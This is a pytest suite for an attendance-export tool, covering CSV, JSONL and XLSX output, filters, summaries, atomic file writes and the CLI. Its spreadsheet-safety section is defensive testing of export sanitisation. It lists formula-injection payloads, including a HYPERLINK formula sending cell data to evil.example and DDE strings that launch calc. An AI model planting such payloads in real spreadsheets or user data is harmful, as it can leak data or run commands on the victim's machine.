"""Attendance exports: every format, the filters, the summary, spreadsheet safety and atomic files."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from circles.cli import main
from circles.exports.atomic import OutputExists, atomic_output
from circles.exports.attendance import ExportFormat, export_attendance, write_attendance
from circles.exports.cells import DANGEROUS_FIRST, safe_cell, safe_text
from circles.exports.rows import COLUMNS, count_rows
from circles.exports.writers import Sheet, write_csv, write_jsonl, write_xlsx
from circles.services import people, reports
from circles.services.participation import Scope
from models.store import Store
from tests.attendance_fixture import History, build
from tests.conftest import FixedClock

# Every row of the fixture's export, in export order (circle, session start, name); Eve walked
# in to S2 (she is no member).
ALL_ROWS = [
    [
        "Night Owls",
        "2026-02-16",
        "After hours",
        "Ana Ruiz",
        "ana@example.org",
        "Platform",
        "none",
        "present",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-03",
        "Session S1",
        "Ana Ruiz",
        "ana@example.org",
        "Platform",
        "yes",
        "present",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-03",
        "Session S1",
        "Bob Stone",
        "bob@example.org",
        "Data",
        "yes",
        "absent",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-03",
        "Session S1",
        "Dee Park",
        "dee@example.org",
        "Platform",
        "yes",
        "present",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-10",
        "Session S2",
        "Ana Ruiz",
        "ana@example.org",
        "Platform",
        "none",
        "late",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-10",
        "Session S2",
        "Bob Stone",
        "bob@example.org",
        "Data",
        "maybe",
        "",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-10",
        "Session S2",
        "Dee Park",
        "dee@example.org",
        "Platform",
        "no",
        "absent",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-10",
        "Session S2",
        "Eve Walker",
        "eve@example.org",
        "Sales",
        "none",
        "present",
        "no",
        "yes",
    ],
    [
        "Rust Lunch",
        "2026-02-17",
        "Session S3",
        "Ana Ruiz",
        "ana@example.org",
        "Platform",
        "yes",
        "absent",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-17",
        "Session S3",
        "Cy Young",
        "cy@example.org",
        "",
        "none",
        "present",
        "yes",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-17",
        "Session S3",
        "Dee Park",
        "dee@example.org",
        "Platform",
        "yes",
        "excused",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-24",
        "Session S4",
        "Ana Ruiz",
        "ana@example.org",
        "Platform",
        "none",
        "present",
        "yes",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-24",
        "Session S4",
        "Cy Young",
        "cy@example.org",
        "",
        "none",
        "absent",
        "no",
        "no",
    ],
    [
        "Rust Lunch",
        "2026-02-24",
        "Session S4",
        "Dee Park",
        "dee@example.org",
        "Platform",
        "yes",
        "present",
        "no",
        "no",
    ],
]
# S5 (10 Mar) is still to come on the fixture's clock: its rows appear once it has been held.
UPCOMING_ROWS = [
    [
        "Rust Lunch",
        "2026-03-10",
        "Session S5",
        "Ana Ruiz",
        "ana@example.org",
        "Platform",
        "yes",
        "",
        "no",
        "no",
    ],
    ["Rust Lunch", "2026-03-10", "Session S5", "Cy Young", "cy@example.org", "", "none", "", "no", "no"],
    [
        "Rust Lunch",
        "2026-03-10",
        "Session S5",
        "Dee Park",
        "dee@example.org",
        "Platform",
        "yes",
        "",
        "yes",
        "no",
    ],
]


@pytest.fixture
def history(store: Store) -> History:
    return build(store)


def _csv(store: Store, scope: Scope, **options: object) -> str:
    out = io.BytesIO()
    with store.read() as db:
        write_attendance(db, out, scope=scope, **options)  # type: ignore[arg-type]
    return out.getvalue().decode("utf-8")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- rows and filters ------------------------------------------------------------------


def test_csv_has_every_row_in_order(store: Store, history: History) -> None:
    rows = _rows(_csv(store, Scope()))
    assert rows[0] == list(COLUMNS)
    assert rows[1:] == ALL_ROWS
    with store.read() as db:
        assert count_rows(db, Scope()) == len(ALL_ROWS)


def test_every_csv_cell_is_quoted(store: Store, history: History) -> None:
    lines = _csv(store, Scope()).splitlines()
    assert lines[1] == ",".join(f'"{cell}"' for cell in ALL_ROWS[0]), (
        "the first row, every cell in double quotes"
    )
    assert lines[1].startswith('"Night Owls","2026-02-16","After hours",')
    assert all(line.startswith('"') and line.endswith('"') for line in lines)


def test_a_session_still_to_come_is_left_out_until_it_has_been_held(
    store: Store, history: History, clock: FixedClock
) -> None:
    """What the export counts is what the report counts: sessions that have been held. A future
    session's rows would all say "attended: nothing yet" (54 of 62 rows on the small demo), and
    so would those of a session under way whose check-in is still to come."""
    with store.read() as db:
        assert count_rows(db, Scope()) == len(ALL_ROWS)
        summary = list(reports.person_summaries(db, Scope()))
    rows = _rows(_csv(store, Scope()))[1:]
    assert "Session S5" not in {r[2] for r in rows}
    # Every expected row is one the summary counts (Eve, the walk-in, is the one row more).
    assert sum(p.expected for p in summary) == len(rows) - 1
    clock.advance(days=7, hours=2, minutes=30)  # Tuesday 10 March 11:30 UTC: S5 is under way
    assert _rows(_csv(store, Scope()))[1:] == ALL_ROWS
    clock.advance(minutes=30)  # 12:00: S5 has ended, nobody checked in
    assert _rows(_csv(store, Scope()))[1:] == ALL_ROWS + UPCOMING_ROWS


def test_filter_by_circle(store: Store, history: History) -> None:
    rows = _rows(_csv(store, Scope(circle_id=history.owls)))[1:]
    assert rows == ALL_ROWS[:1]


@pytest.mark.parametrize(
    ("since", "until", "expected"),
    [
        # Local days of each circle: the Night Owls' Monday evening is Tuesday in UTC.
        (date(2026, 2, 16), date(2026, 2, 16), ALL_ROWS[:1]),
        (date(2026, 2, 17), date(2026, 2, 17), ALL_ROWS[8:11]),
        (date(2026, 2, 10), date(2026, 2, 17), ALL_ROWS[:1] + ALL_ROWS[4:11]),
        (date(2026, 3, 1), None, []),  # only S5, which has not happened yet
        (None, date(2026, 2, 3), ALL_ROWS[1:4]),
        (date(2027, 1, 1), None, []),
    ],
)
def test_filter_by_local_date_range(
    store: Store, history: History, since: date | None, until: date | None, expected: list[list[str]]
) -> None:
    assert _rows(_csv(store, Scope(since=since, until=until)))[1:] == expected


def test_jsonl_rows_keep_types(store: Store, history: History) -> None:
    out = io.BytesIO()
    with store.read() as db:
        write_attendance(db, out, scope=Scope(circle_id=history.rust), fmt=ExportFormat.JSONL)
    lines = [json.loads(line) for line in out.getvalue().decode().splitlines()]
    assert len(lines) == len(ALL_ROWS) - 1
    assert lines[8] == {
        "circle": "Rust Lunch",
        "date": "2026-02-17",
        "title": "Session S3",
        "person": "Cy Young",
        "email": "cy@example.org",
        "team": None,
        "rsvp": "none",
        "attended": "present",
        "presenter": True,
        "walk_in": False,
    }
    assert lines[4]["attended"] is None


def test_xlsx_holds_rows_summary_and_circles(store: Store, history: History, tmp_path: Path) -> None:
    target = tmp_path / "attendance.xlsx"
    with store.read() as db:
        result = export_attendance(db, target, scope=Scope())
    assert result.format is ExportFormat.XLSX
    assert result.rows == len(ALL_ROWS)
    book = load_workbook(target)
    assert book.sheetnames == ["Attendance", "Summary", "Circles"]
    rows = list(book["Attendance"].iter_rows(values_only=True))
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == len(ALL_ROWS) + 1
    first = rows[1]
    assert first[1].date() == date(2026, 2, 16)  # a real date cell, not text
    assert [("" if v is None else v) for v in first[2:]] == ALL_ROWS[0][2:]
    summary = list(book["Summary"].iter_rows(values_only=True))
    assert summary[2] == ("Rust Lunch", "Ana Ruiz", "ana@example.org", "Platform", 4, 3, 0, 0.75)
    circles = list(book["Circles"].iter_rows(values_only=True))
    assert circles[2] == ("Rust Lunch", 4, 12, 6, 1, 0.5, 1.75)


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(
    store: Store, history: History, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from circles.exports import writers

    monkeypatch.setattr(writers, "XLSX_MAX_ROWS", 7)  # Excel's is 1,048,576; 6 rows and a header here
    target = tmp_path / "big.xlsx"
    with store.read() as db:
        result = export_attendance(db, target, scope=Scope())
    book = load_workbook(target)
    assert book.sheetnames == ["Attendance", "Attendance (2)", "Attendance (3)", "Summary", "Circles"]
    parts = [list(book[name].iter_rows(values_only=True)) for name in book.sheetnames[:3]]
    assert [len(p) for p in parts] == [7, 7, 3]
    assert all(p[0] == COLUMNS for p in parts)
    assert [r[3] for p in parts for r in p[1:]] == [r[3] for r in ALL_ROWS]
    assert result.rows == len(ALL_ROWS)


def test_summary_csv_figures_and_numbers_unquoted(store: Store, history: History) -> None:
    text = _csv(store, Scope(circle_id=history.rust), summary=True)
    lines = text.splitlines()
    assert lines[0] == '"circle","person","email","team","expected","attended","walk-ins","rate"'
    assert lines[1] == '"Rust Lunch","Ana Ruiz","ana@example.org","Platform",4,3,0,0.75'
    assert lines[2] == '"Rust Lunch","Bob Stone","bob@example.org","Data",2,0,0,0.0'
    # A walk-in only: never expected, so no rate (an empty cell, not 0).
    assert lines[5] == '"Rust Lunch","Eve Walker","eve@example.org","Sales",0,0,1,""'


def test_summary_jsonl_says_null_for_no_rate(store: Store, history: History) -> None:
    out = io.BytesIO()
    with store.read() as db:
        write_attendance(db, out, scope=Scope(circle_id=history.rust), fmt=ExportFormat.JSONL, summary=True)
    lines = [json.loads(line) for line in out.getvalue().decode().splitlines()]
    assert lines[2] == {
        "circle": "Rust Lunch",
        "person": "Cy Young",
        "email": "cy@example.org",
        "team": None,
        "expected": 2,
        "attended": 1,
        "walk_ins": 0,
        "rate": 0.5,
    }
    assert lines[4]["rate"] is None


def test_excel_flag_adds_a_byte_order_mark(store: Store, history: History) -> None:
    out = io.BytesIO()
    with store.read() as db:
        write_attendance(db, out, scope=Scope(circle_id=history.owls), excel=True)
    assert out.getvalue().startswith(b'\xef\xbb\xbf"circle"')
    assert not _csv(store, Scope(circle_id=history.owls)).startswith("\ufeff")


def test_progress_reports_rows_and_total(store: Store, history: History, tmp_path: Path) -> None:
    seen: list[tuple[int, int | None]] = []
    with store.read() as db:
        export_attendance(
            db, tmp_path / "a.csv", scope=Scope(), progress=lambda d, t: seen.append((d, t)), count_first=True
        )
    assert seen[0] == (0, len(ALL_ROWS))
    assert seen[-1] == (len(ALL_ROWS), len(ALL_ROWS))


# --- spreadsheet safety ----------------------------------------------------------------

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "|": "|calc",
    "%": "%0A=1+1",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
    "\n": "\n=1+1",
}


def test_payloads_cover_every_dangerous_first_character() -> None:
    assert set(PAYLOADS) == set(DANGEROUS_FIRST)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=[repr(k) for k in PAYLOADS])
def test_cells_neutralise_every_dangerous_first_character(payload: str) -> None:
    assert safe_text(payload) == "'" + payload
    assert safe_cell(payload) == "'" + payload
    assert safe_text("Ana " + payload) == "Ana " + payload  # only the first character matters


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(0.75) == 0.75
    assert safe_cell("-3") == "'-3"  # text that looks like a number is still text
    out = io.BytesIO()
    write_csv(out, Sheet.of_rows("t", ["n", "text"], [(-3, "-3"), (0.5, "ok")]))
    assert out.getvalue().decode().splitlines() == ['"n","text"', '-3,"\'-3"', '0.5,"ok"']


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=[repr(k) for k in PAYLOADS])
def test_writers_neutralise_payloads(payload: str, tmp_path: Path) -> None:
    rows = [(payload, 1)]
    out = io.BytesIO()
    write_csv(out, Sheet.of_rows("t", ["text", "n"], rows))
    assert _rows(out.getvalue().decode())[1] == ["'" + payload, "1"]
    target = tmp_path / "t.xlsx"
    with target.open("wb") as f:
        write_xlsx(f, [Sheet.of_rows("t", ["text", "n"], rows)])
    cell = load_workbook(target)["t"]["A2"]
    assert cell.data_type == "s"  # text, never a formula
    assert cell.value.startswith("'")
    assert load_workbook(target)["t"]["B2"].value == 1
    out = io.BytesIO()
    write_jsonl(out, Sheet.of_rows("t", ["text", "n"], rows))
    assert json.loads(out.getvalue()) == {"text": payload, "n": 1}  # JSON is for programs: kept as is


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "|", "%"])
def test_exported_people_cannot_inject_formulas(
    store: Store, history: History, tmp_path: Path, first: str
) -> None:
    """Names, e-mails and teams typed into the app go through the real export, CSV and XLSX."""
    with store.write() as db:
        ana = people.get_person(db, history.p["ana"])
        people.update_person(db, ana, name=f"{first}cmd|' /C calc'!A0", team=f"{first}1+1")
    rows = _rows(_csv(store, Scope(circle_id=history.owls)))
    assert rows[1][3] == f"'{first}cmd|' /C calc'!A0"
    assert rows[1][5] == f"'{first}1+1"
    target = tmp_path / "x.xlsx"
    with store.read() as db:
        export_attendance(db, target, scope=Scope(circle_id=history.owls))
    sheet = load_workbook(target)["Attendance"]
    assert sheet["D2"].data_type == "s"
    assert sheet["D2"].value == f"'{first}cmd|' /C calc'!A0"
    assert sheet["F2"].value == f"'{first}1+1"


# --- atomic files ----------------------------------------------------------------------


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".part"))


def test_existing_file_needs_force(store: Store, history: History, tmp_path: Path) -> None:
    target = tmp_path / "a.csv"
    target.write_text("old", encoding="utf-8")
    with store.read() as db, pytest.raises(OutputExists, match=r"a\.csv already exists; pass --force"):
        export_attendance(db, target, scope=Scope())
    assert target.read_text(encoding="utf-8") == "old"
    with store.read() as db:
        export_attendance(db, target, scope=Scope(), force=True)
    assert _rows(target.read_text(encoding="utf-8"))[1:] == ALL_ROWS
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("interruption", [KeyboardInterrupt, RuntimeError])
@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_interrupted_export_leaves_old_file_and_no_partial_file(
    store: Store, history: History, tmp_path: Path, interruption: type[BaseException], fmt: ExportFormat
) -> None:
    target = tmp_path / f"a.{fmt.value}"
    target.write_bytes(b"the old export")
    fresh = tmp_path / f"new.{fmt.value}"
    calls = 0

    def stop_after_some_rows(done: int, total: int | None) -> None:
        nonlocal calls
        calls += 1
        if done > 0:
            raise interruption

    with store.read() as db:
        for path in (target, fresh):
            with pytest.raises(interruption):
                export_attendance(
                    db,
                    path,
                    scope=Scope(),
                    fmt=fmt,
                    force=True,
                    progress=stop_after_some_rows,
                    count_first=True,
                )
    assert calls >= 2
    assert target.read_bytes() == b"the old export"
    assert not fresh.exists()
    assert _leftovers(tmp_path) == []


def test_atomic_output_writes_nothing_until_done(tmp_path: Path) -> None:
    target = tmp_path / "f.txt"
    with atomic_output(target) as out:
        out.write(b"half")
        assert not target.exists()
        assert len(_leftovers(tmp_path)) == 1
    assert target.read_bytes() == b"half"


def test_bad_targets_are_named(tmp_path: Path) -> None:
    with pytest.raises(Exception, match=r"file .* is in a folder that does not exist"):
        atomic_output(tmp_path / "nope" / "a.csv").__enter__()
    with pytest.raises(Exception, match=r"file .* is a folder"):
        atomic_output(tmp_path).__enter__()


# --- the command -----------------------------------------------------------------------


def _invoke(store: Store, *args: str) -> object:
    db_arg = store.url.render_as_string(hide_password=False)
    return CliRunner().invoke(main, ["--db", db_arg, "export", "attendance", *args])


def test_cli_writes_file_and_says_where(store: Store, history: History, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    result = _invoke(
        store, "--circle", "Rust Lunch", "--since", "2026-02-10", "--until", "2026-02-17", "-o", str(target)
    )
    assert result.exit_code == 0, result.output
    assert f"Wrote 7 rows to {target}." in result.output
    assert _rows(target.read_text(encoding="utf-8"))[1:] == ALL_ROWS[4:11]
    again = _invoke(store, "-o", str(target))
    assert again.exit_code == 1
    assert "already exists; pass --force to replace it" in again.output
    forced = _invoke(store, "-o", str(target), "--force", "--summary")
    assert forced.exit_code == 0, forced.output
    assert "summary rows" in forced.output


def test_cli_format_from_suffix_and_stdout(store: Store, history: History, tmp_path: Path) -> None:
    # The CLI runs on the system clock: S5 may have happened there. Up to the fixture's today:
    result = _invoke(store, "-o", str(tmp_path / "out.jsonl"), "--until", "2026-03-03")
    assert result.exit_code == 0, result.output
    assert len((tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()) == len(ALL_ROWS)
    piped = _invoke(store, "--circle", "Night Owls", "--format", "csv")
    assert piped.exit_code == 0
    assert _rows(piped.output)[1:] == ALL_ROWS[:1]
    # Standard output that is no terminal (a pipe, a file) takes a workbook.
    xlsx = _invoke(store, "--format", "xlsx")
    assert xlsx.exit_code == 0 and xlsx.stdout_bytes.startswith(b"PK")


def test_cli_bad_input_is_one_clear_line(store: Store, history: History, tmp_path: Path) -> None:
    for args, message in [
        (["--since", "March"], "--since 'March' is not a date like 2026-03-17."),
        (["--circle", "Nope"], "There is no circle named 'Nope'"),
        # The flag typed, not a "file" nobody named: the whole store's CSV, and one circle's.
        (["-o", str(tmp_path / "missing" / "a.csv")], "circles: --output '"),
        (["-o", str(tmp_path / "missing" / "a.csv")], "' is in a folder that does not exist"),
        (["--circle", "Rust Lunch", "-o", str(tmp_path / "missing" / "a.csv")], "circles: --output '"),
    ]:
        result = _invoke(store, *args)
        assert result.exit_code == 1, args
        assert message in result.output
        assert "Traceback" not in result.output


def test_cli_refuses_a_file_name_of_another_kind_and_writes_nothing(
    store: Store, history: History, tmp_path: Path
) -> None:
    """`-o attendance.pdf` wrote CSV into a file named .pdf and said "Wrote 575 rows": it would
    not open as what its name promised. A name without a kind (a date after a dot) is CSV, and a
    format asked for by name is written whatever the file is called."""
    refused = _invoke(store, "-o", str(tmp_path / "attendance.pdf"))
    assert refused.exit_code == 1
    assert refused.output.startswith("circles: --output '")  # the path, shortened if long
    assert (
        "' ends in .pdf, but what is written is an attendance export: name it .csv, .xlsx or .jsonl, "
        "or choose the format." in refused.output
    )
    assert not (tmp_path / "attendance.pdf").exists()
    dated = _invoke(store, "-o", str(tmp_path / "attendance.2026.03"), "--until", "2026-03-03")
    assert dated.exit_code == 0, dated.output
    assert (tmp_path / "attendance.2026.03").read_text(encoding="utf-8").startswith('"circle",')
    asked = _invoke(store, "-o", str(tmp_path / "attendance.txt"), "--format", "csv", "--until", "2026-03-03")
    assert asked.exit_code == 0, asked.output
    assert _rows((tmp_path / "attendance.txt").read_text(encoding="utf-8"))[1:] == ALL_ROWS
